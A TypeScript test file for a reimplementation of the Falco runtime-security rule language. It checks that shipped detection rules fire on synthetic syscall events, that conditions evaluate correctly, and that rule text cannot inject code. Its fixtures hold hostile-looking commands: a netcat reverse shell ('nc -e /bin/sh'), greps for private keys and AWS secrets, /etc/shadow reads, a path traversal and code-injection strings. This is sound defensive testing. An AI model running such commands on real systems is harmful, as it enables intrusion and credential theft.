/** Falco's language from file to verdict: the rules that ship with Falco, and each part of the language on events. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Backend } from "../../src/falco/bucket.ts";
import { type CompiledRules, compileRules } from "../../src/falco/compile.ts";
import { formatOutput } from "../../src/falco/output-format.ts";
import { loadRules } from "../../src/falco/rule-set.ts";
import type { SyscallEvent } from "../../src/falco/syscall-event.ts";
import { readValues } from "../../src/resource/document.ts";
import { CONTAINER, sampleEvent, sampleFile, sampleProcess, sampleSocket } from "./sample-event.ts";

const DATA = join(import.meta.dirname, "../data/falco");
const FILES = ["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"] as const;

const load = (texts: readonly string[]) => loadRules(texts.flatMap((text, index) => readValues(text, `rules-${index}.yaml`).documents));
const compile = (...texts: readonly string[]): CompiledRules => compileRules(load(texts), { includes: () => true });
const compiled = new Map(FILES.map((file) => [file as string, compile(readFileSync(join(DATA, file), "utf8"))]));
const shipped = (file: string): CompiledRules => compiled.get(file) ?? compile();
const names = (rules: CompiledRules, event: SyscallEvent): readonly string[] => rules.judge(event).map(({ name }) => name);

describe("the rules that ship with Falco", () => {
  test.each([
    ["falco_rules.yaml", 25, 0],
    ["falco-incubating_rules.yaml", 31, 0],
    ["falco-sandbox_rules.yaml", 36, 1],
  ])("%s: all of them load, and %i run", (file, running, silent) => {
    const rules = shipped(file);
    expect(rules.diagnostics).toEqual([]);
    expect([rules.rules.length, rules.silent.length]).toEqual([running, silent]);
    expect(rules.silent.map(({ reason }) => reason).every((reason) => reason.startsWith("`evt.buffer`"))).toBe(true);
  });

  const parent = sampleProcess({ name: "nginx", pid: 80, exePath: "/usr/sbin/nginx" });
  const shell = { name: "sh", args: ["-c", "id"], parent };
  const contained = { container: CONTAINER };
  test.each<[string, SyscallEvent]>([
    ["Run shell untrusted", sampleEvent("execve", { caller: sampleProcess(shell) })],
    [
      "Read sensitive file untrusted",
      sampleEvent("openat", {
        fd: sampleFile("/etc/shadow"),
        caller: sampleProcess({ name: "cat" }),
        args: { name: "/etc/shadow", flags: 0 },
        result: 3,
      }),
    ],
    [
      "Directory traversal monitored file read",
      sampleEvent("openat", {
        fd: sampleFile("/etc/passwd", { rawName: "../../../etc/passwd" }),
        caller: sampleProcess({ name: "php", parent }),
        args: { flags: 0 },
      }),
    ],
    [
      "Terminal shell in container",
      sampleEvent("execve", { caller: sampleProcess({ ...contained, tty: 34816, parent: sampleProcess({ name: "runc" }) }) }),
    ],
    ["PTRACE attached to process", sampleEvent("ptrace", { args: { request: 16, pid: 1 }, caller: sampleProcess({ name: "gdb" }) })],
    ["PTRACE anti-debug attempt", sampleEvent("ptrace", { args: { request: 0 }, caller: sampleProcess({ name: "evil" }) })],
    [
      "Fileless execution via memfd_create",
      sampleEvent("execve", {
        caller: sampleProcess({ name: "3", executable: { ...sampleProcess().executable, isFromMemfd: true } }),
      }),
    ],
    ["Execution from /dev/shm", sampleEvent("execve", { caller: sampleProcess({ name: "x", exe: "/dev/shm/x" }) })],
    [
      "Drop and execute new binary in container",
      sampleEvent("execve", {
        caller: sampleProcess({ ...contained, executable: { ...sampleProcess().executable, isUpperLayer: true } }),
      }),
    ],
    [
      "Linux Kernel Module Injection Detected",
      sampleEvent("finit_module", { caller: sampleProcess({ ...contained, name: "insmod", capEffective: 1n << 16n }) }),
    ],
    [
      "Packet socket created in container",
      sampleEvent("socket", { args: { domain: 17, type: 3 }, caller: sampleProcess({ ...contained, name: "tcpdump" }) }),
    ],
    [
      "Redirect STDOUT/STDIN to Network Connection in Container",
      sampleEvent("dup2", { result: 1, fd: sampleSocket(), caller: sampleProcess({ ...contained, name: "python3" }) }),
    ],
    [
      "Disallowed SSH Connection Non Standard Port",
      sampleEvent("connect", {
        fd: sampleSocket({ remotePort: 443 }),
        caller: sampleProcess({ name: "ssh", exe: "/usr/bin/ssh" }),
      }),
    ],
    ["Create Symlink Over Sensitive Files", sampleEvent("symlink", { args: { target: "/etc/shadow", linkpath: "/tmp/x" } })],
    ["Create Hardlink Over Sensitive Files", sampleEvent("linkat", { args: { oldpath: "/etc/shadow", newpath: "/tmp/x" } })],
    [
      "Search Private Keys or Passwords",
      sampleEvent("execve", { caller: sampleProcess({ name: "grep", args: ["-r", "BEGIN RSA PRIVATE", "/"] }) }),
    ],
    ["Find AWS Credentials", sampleEvent("execve", { caller: sampleProcess({ name: "grep", args: ["aws_secret_access_key"] }) })],
    ["Remove Bulk Data from Disk", sampleEvent("execve", { caller: sampleProcess({ name: "shred" }) })],
    [
      "Netcat Remote Code Execution in Container",
      sampleEvent("execve", { caller: sampleProcess({ ...contained, name: "nc", args: ["-e", "/bin/sh", "10.0.0.9", "4444"] }) }),
    ],
    [
      "Debugfs Launched in Privileged Container",
      sampleEvent("execve", { caller: sampleProcess({ name: "debugfs", container: { ...CONTAINER, isPrivileged: true } }) }),
    ],
    [
      "Detect release_agent File Container Escapes",
      sampleEvent("openat", {
        fd: sampleFile("/sys/fs/cgroup/rdma/release_agent"),
        args: { flags: 1 },
        caller: sampleProcess({ ...contained, capEffective: 1n << 21n }),
      }),
    ],
    [
      "Clear Log Activities",
      sampleEvent("openat", { fd: sampleFile("/var/log/auth.log"), args: { flags: 0o1001 }, caller: sampleProcess({ name: "rm" }) }),
    ],
    [
      "Contact K8S API Server From Container",
      sampleEvent("connect", {
        fd: sampleSocket({ remoteName: "kubernetes.default.svc.cluster.local" }),
        caller: sampleProcess({ ...contained, name: "curl" }),
      }),
    ],
    [
      "System user interactive",
      sampleEvent("execve", {
        caller: sampleProcess({ name: "id", userName: "www-data", parent: sampleProcess({ name: "sshd" }) }),
      }),
    ],
    [
      "Read sensitive file trusted after startup",
      sampleEvent("openat", { fd: sampleFile("/etc/shadow"), args: { flags: 0 }, caller: sampleProcess({ name: "nginx" }) }),
    ],
  ])("stable: %s", (name, event) => {
    expect(names(shipped("falco_rules.yaml"), event)).toContain(name);
    // Nothing fires on the same event without what made it one.
    expect(names(shipped("falco_rules.yaml"), sampleEvent(event.type, { caller: sampleProcess({ name: "true" }) }))).toEqual([]);
  });

  test("ordinary work makes none of the stable ones fire", () => {
    const rules = shipped("falco_rules.yaml");
    const events = [
      sampleEvent("execve", { caller: sampleProcess({ name: "make", args: ["all"] }) }),
      sampleEvent("openat", { fd: sampleFile("/usr/lib/libc.so.6"), args: { flags: 0o2000000 } }),
      sampleEvent("connect", { fd: sampleSocket(), caller: sampleProcess({ name: "curl" }) }),
      sampleEvent("dup2", { result: 1, fd: sampleFile("/tmp/out"), caller: sampleProcess({ container: CONTAINER }) }),
      sampleEvent("nosuchcall"),
    ];
    expect(events.flatMap((event) => names(rules, event))).toEqual([]);
  });
});

const rule = (condition: string, more = ""): string =>
  `- rule: r\n  desc: d\n  condition: ${JSON.stringify(condition)}\n  output: o\n  priority: INFO\n${more}`;

const EVENT = sampleEvent("openat", {
  result: -13,
  fd: sampleFile("/home/jo/.ssh/id_rsa", { number: -1, rawName: "../.ssh/id_rsa" }),
  args: { name: "../.ssh/id_rsa", flags: 0o100 | 2, mode: 0o755 },
  caller: sampleProcess({
    name: "Cat",
    args: ["-n", "it's"],
    capEffective: (1n << 21n) | 1n,
    parent: sampleProcess({ name: "sh", parent: sampleProcess({ name: "sshd" }) }),
  }),
});

/** What a condition comes to on an event, by both back ends. */
function judged(condition: string, event: SyscallEvent = EVENT): boolean {
  const answers = (["source", "closure"] as const satisfies readonly Backend[]).map((backend) => {
    const rules = compileRules(load([rule(condition)]), { backend });
    expect(rules.diagnostics).toEqual([]);
    return rules.judge(event).length > 0;
  });
  expect(answers[0]).toBe(answers[1]);
  return answers[0] ?? false;
}

describe("conditions on events", () => {
  test.each([
    ["evt.type=openat", true],
    ["evt.type in (open, openat)", true],
    ["evt.type!=openat", false],
    ["evt.num=0", false],
    ["evt.rawres < 0 and evt.res=EACCES and evt.failed=true", true],
    ["evt.arg.flags contains O_CREAT and evt.arg[flags] endswith O_RDWR", true],
    ["evt.arg.mode contains S_IXOTH and not evt.arg.mode contains S_ISUID", true],
    ["evt.arg[1]=../.ssh/id_rsa", true],
    ["evt.arg.target exists", false],
    ["evt.is_open_read=true and evt.is_open_write=true", true],
    ["proc.name=Cat and proc.name!=cat", true],
    ["tolower(proc.name)=cat and toupper(proc.name)=CAT", true],
    ["len(proc.name) > 2", true],
    ["basename(fd.name)=id_rsa", true],
    ['concat(proc.name, "-", proc.pname)="Cat-sh"', true],
    ['join("/", (proc.name, proc.pname))="Cat/sh"', true],
    ["proc.name icontains AT and proc.cmdline startswith 'Cat -n'", true],
    ['proc.args="-n it\'s"', true],
    ['proc.args[1]="it\'s"', true],
    ["proc.pname=sh and proc.aname[2]=sshd and proc.aname=sshd", true],
    ["proc.aname[3]=sshd", false],
    ["proc.aname in (cron, sshd)", true],
    ["proc.aname[7] exists", false],
    ["not proc.aname[7]=x", true],
    ["proc.aname[7]!=x", false],
    ["fd.directory=/home/jo/.ssh and fd.filename=id_rsa", true],
    ["fd.name glob '/home/*/.ssh/*'", true],
    ["fd.name iglob '/HOME/?o/[.]ssh/id_[r-s]sa'", true],
    ["fd.name glob '/home/*'", true],
    ["fd.name glob 'home*'", false],
    ["fd.name regex '/home/[a-z]+/\\\\.ssh/.*'", true],
    ["fd.name regex '/home'", false],
    ["fd.name pmatch (/etc, /home/jo)", true],
    ["fd.name pmatch (/home/j)", false],
    ["fd.name pmatch (/home/*/.ssh)", true],
    ["fd.num=-1 and fd.typechar='f' and fd.type=file", true],
    ["fd.sip=10.0.0.1", false],
    ["fd.name startswith anyof (/etc, /home)", true],
    ["fd.name contains allof (jo, rsa)", true],
    ["fd.name contains oneof (jo, rsa)", false],
    ["proc.name=val(proc.pname)", false],
    ["proc.cmdline startswith val(proc.name)", true],
    ["container.id=host and container.image.repository exists", false],
    ["thread.cap_effective contains CAP_SYS_ADMIN and thread.cap_effective icontains cap_chown", true],
    ["proc.duration > 59000000000 and proc.duration <= 60000000000", true],
    ["user.uid=0 and user.name=root and user.loginuid=-1", true],
  ])("%s: %s", (condition, expected) => {
    expect(judged(condition)).toBe(expected);
  });

  test.each([
    ["fd.ip=93.184.216.34 and fd.sip=93.184.216.34 and fd.cip=10.0.0.3", true],
    ["fd.net=93.184.0.0/16 and not fd.net=192.168.0.0/16", true],
    ["fd.net!=127.0.0.0/8", true],
    ["fd.ip!=10.0.0.3", false],
    ["fd.snet in (10.0.0.0/8, 192.168.0.0/16)", false],
    ["fd.cnet in (10.0.0.0/8)", true],
    ["fd.sport=443 and fd.port in (443) and fd.lport=40000 and fd.rport=443", true],
    ["fd.l4proto=tcp and fd.connected=true and fd.name_changed=false", true],
    ["fd.typechar=4 and fd.sockfamily=ip and fd.name=10.0.0.3:40000->93.184.216.34:443", true],
  ])("on a socket: %s: %s", (condition, expected) => {
    expect(judged(condition, sampleEvent("connect", { fd: sampleSocket() }))).toBe(expected);
  });

  test("IPv6 addresses compare as addresses", () => {
    const event = sampleEvent("connect", { fd: sampleSocket({ remoteIp: "2001:db8::1" }, "ipv6") });
    expect(judged("fd.sip=2001:0DB8:0:0::1 and fd.snet=2001:db8::/32", event)).toBe(true);
  });

  test("both back ends agree on any combination", () => {
    const check = fc.constantFrom(
      "evt.type=openat",
      "proc.name=Cat",
      "proc.aname=sshd",
      "fd.name startswith /home",
      "fd.sip exists",
      "evt.rawres >= 0",
      "proc.pname in (a, b)",
      "evt.is_open_write=true",
    );
    const { condition } = fc.letrec<{ condition: string }>((tie) => ({
      condition: fc.oneof(
        { depthSize: "small", withCrossShrink: true },
        check,
        fc.tuple(tie("condition"), tie("condition")).map(([a, b]) => `(${a} and ${b})`),
        fc.tuple(tie("condition"), tie("condition")).map(([a, b]) => `(${a} or ${b})`),
        tie("condition").map((a) => `not (${a})`),
      ),
    }));
    const events = [EVENT, sampleEvent("connect", { fd: sampleSocket() }), sampleEvent("execve")];
    fc.assert(
      fc.property(condition, fc.constantFrom(...events), (text, event) => {
        judged(text, event);
      }),
      { numRuns: 200 },
    );
  });
});

describe("rule files", () => {
  const found = (...texts: readonly string[]) =>
    compile(...texts).diagnostics.map(({ code, file, line, column }) => [code, file, line, column]);
  const messages = (...texts: readonly string[]) => compile(...texts).diagnostics.map(({ message }) => message);

  test("mistakes are told with file, line and column", () => {
    const text = "- macro: m\n  condition: >\n    proc.name=a\n    and proc.nam=b\n";
    expect(found(text, rule("m"))).toEqual([["FALCO_FIELD", "rules-0.yaml", 4, 9]]);
    expect(found(rule("proc.name = and"), rule("proc.pid > 'x'"))).toHaveLength(1);
    expect(found(rule("shell"))).toEqual([["FALCO_NAME", "rules-0.yaml", 3, 15]]);
    expect(found(rule("proc.pid = x"))).toEqual([["FALCO_VALUE", "rules-0.yaml", 3, 26]]);
    expect(found("rule: x")).toEqual([["FALCO_FILE", "rules-0.yaml", 1, 1]]);
  });

  test.each([
    ["- rule: r\n  desc: d", "expected the rule `r` to have `condition`"],
    [
      "- macro: m\n  condition: a and m\n- rule: r\n  condition: m\n  output: o\n  priority: INFO\n  desc: d",
      "the macro `m` contains itself",
    ],
    ["- list: l\n  items: [l]", "the list `l` contains itself, or lists nest more than 50 deep"],
    ["- list: l\n  items: [a b]", "the value `a b` needs quotes of its own"],
    ["- list: l\n  items: [a]\n  append: true", "there is no list `l` to append to"],
    [rule("proc.name=a").replace("INFO", "LOUD"), "expected a priority, got `LOUD`"],
    [rule("proc.name=a").replace("output: o", "output: '%proc.nam'"), "unknown field `proc.nam`"],
    ["- required_engine_version: 0.99.0", "the rules need version `0.99.0` of the rule language, known here is `0.57.0`"],
    ["- rul: r", "expected an item that is a rule, a macro or a list, got `rul`"],
    [
      rule("evt.type=open", "  exceptions:\n    - {name: e, fields: [proc.name, fd.name], values: [[a]]}\n"),
      "expected 2 values in each of the `values` of `e`",
    ],
    [rule("tolower(proc.pid)=a"), "`tolower()` takes texts only"],
    [rule("fd.sip=hello"), "expected an IP address or network for `fd.sip`, got `hello`"],
    [rule("proc.name regex '('"), expect.stringContaining("is no regular expression")],
  ])("%#: %s", (text, message) => {
    expect(messages(text)).toContainEqual(message);
  });

  test("lists and macros are replaced, appended to and overridden by later files", () => {
    const first = `- list: names\n  items: [a]\n- macro: named\n  condition: (proc.name in (names))\n${rule("named and evt.type=execve")}`;
    const named = (name: string): SyscallEvent => sampleEvent("execve", { caller: sampleProcess({ name }) });
    const fires = (second: string, name: string): boolean => compile(first, second).judge(named(name)).length > 0;
    expect([fires("", "a"), fires("", "b")]).toEqual([true, false]);
    expect(fires("- list: names\n  items: [b]\n  append: true", "b")).toBe(true);
    expect(fires("- list: names\n  items: [b]", "a")).toBe(false);
    expect(fires("- list: names\n  items: [b]\n  override: {items: append}", "a")).toBe(true);
    expect(fires("- macro: named\n  append: true\n  condition: or proc.name=c", "c")).toBe(true);
    expect(fires("- rule: r\n  append: true\n  condition: and not proc.name=a", "a")).toBe(false);
    expect(fires("- rule: r\n  condition: or evt.type=execve\n  override: {condition: append}", "z")).toBe(true);
    expect(fires("- rule: r\n  exceptions:\n    - {name: e, fields: proc.name, values: [a, q]}\n  append: true", "a")).toBe(false);
    const off = compileRules(load([first, "- rule: r\n  enabled: false"]));
    expect(off.rules).toEqual([]);
  });

  test("exceptions of several fields except only what fits all of them", () => {
    const text = rule(
      "evt.type=openat",
      "  exceptions:\n    - name: e\n      fields: [proc.name, fd.name]\n      comps: [in, startswith]\n      values:\n        - [[Cat, dog], /home]\n        - [b, /etc]\n",
    );
    expect(compile(text).judge(EVENT)).toEqual([]);
    expect(compile(text).judge({ ...EVENT, fd: sampleFile("/etc/x") })).toHaveLength(1);
  });

  test("a rule of another source, or with `skip-if-unknown-filter`, is named with the reason", () => {
    const silent = compile(rule("evt.type=open", "  source: k8s_audit\n")).silent;
    expect(silent).toMatchObject([{ name: "r", reason: "events of the source `k8s_audit` are not read" }]);
    const skipped = compile(rule("some.field=1", "  skip-if-unknown-filter: true\n"));
    expect(skipped).toMatchObject({ diagnostics: [], silent: [{ reason: expect.stringContaining("some.field") }] });
  });

  test("macros that double at every step stay small", () => {
    const doubling = Array.from({ length: 60 }, (_, i) => `- macro: m${i + 1}\n  condition: (m${i} and (not m${i} or m${i}))\n`).join("");
    const rules = compile(`- macro: m0\n  condition: (proc.name=Cat or proc.name=dog)\n${doubling}${rule("m60")}`);
    expect(rules.diagnostics).toEqual([]);
    expect(rules.judge(EVENT)).toHaveLength(1);
  });

  test("outputs show values, and `<NA>` for what has none", () => {
    const text = rule("evt.type=openat").replace(
      "output: o",
      "output: '*%evt.type by %proc.name (%proc.aname[2]/%proc.aname[9]). %fd.name, %container.image'",
    );
    const [only] = compile(text).rules;
    expect(only && formatOutput(only.output, EVENT)).toBe("openat by Cat (sshd/<NA>). /home/jo/.ssh/id_rsa, <NA>");
  });

  test("no text of a rule becomes code", () => {
    const hostile = ['"+process.exit()+"', "`$" + "{process.exit()}`", "*/process.exit()/*", "\u2028process.exit()"];
    for (const text of hostile) {
      const quoted = `"${text.replaceAll('"', '\\"')}"`;
      expect(judged(`proc.cmdline=${quoted} or proc.cmdline in (${quoted}, x) or proc.cmdline contains ${quoted}`)).toBe(false);
    }
  });
});

test("every file's rules together judge each type of event", () => {
  const rules = compile(...FILES.map((file) => readFileSync(join(DATA, file), "utf8")));
  expect(rules.rules).toHaveLength(92);
  for (const type of rules.eventTypes) expect(Array.isArray(rules.judge(sampleEvent(type)))).toBe(true);
});
